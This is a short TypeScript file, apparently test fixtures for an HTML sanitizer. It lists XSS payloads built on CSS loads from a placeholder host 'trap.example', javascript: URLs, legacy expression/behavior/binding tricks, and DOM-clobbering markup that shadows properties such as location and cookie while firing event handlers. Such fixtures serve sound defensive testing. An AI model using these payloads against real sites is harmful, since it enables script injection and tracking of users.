/** Styles that load something or that old browsers ran, and names that shadow the page's own. */
export const stylePayloads: readonly string[] = [
  '<style>@import "https://trap.example/a.css";</style>',
  '<style>body{background:url("javascript:ran()")}</style>',
  '<p style="background:url(javascript:ran())">x</p>',
  '<p style="background:url(https://trap.example/pixel)">x</p>',
  '<p style="width:expression(ran())">x</p>',
  '<p style="behavior:url(https://trap.example/x.htc)">x</p>',
  '<p style="-moz-binding:url(https://trap.example/x.xml#y)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999" onclick="ran()">x</p>',
  '<link rel=stylesheet href="https://trap.example/b.css">',
  '<svg><style>@import"https://trap.example/c.css"</style></svg>',
]

export const clobberPayloads: readonly string[] = [
  '<form id=location></form><img name=cookie src=x onerror=ran()>',
  '<form name=attributes><input name=nodeName><input name=attributes onfocus=ran() autofocus></form>',
  '<a id=config></a><a id=config name=graphqlUrl href="javascript:ran()">x</a>',
  '<img name=getElementById><img name=createElement src=x onerror=ran()>',
  '<form><input name=innerHTML><input name=parentNode><img src=x onerror=ran()></form>',
  '<iframe name=self srcdoc="<script>top.ran()</script>"></iframe>',
  '<form id=__proto__><output name=sanitize onclick=ran() tabindex=0>x</output></form>',
]
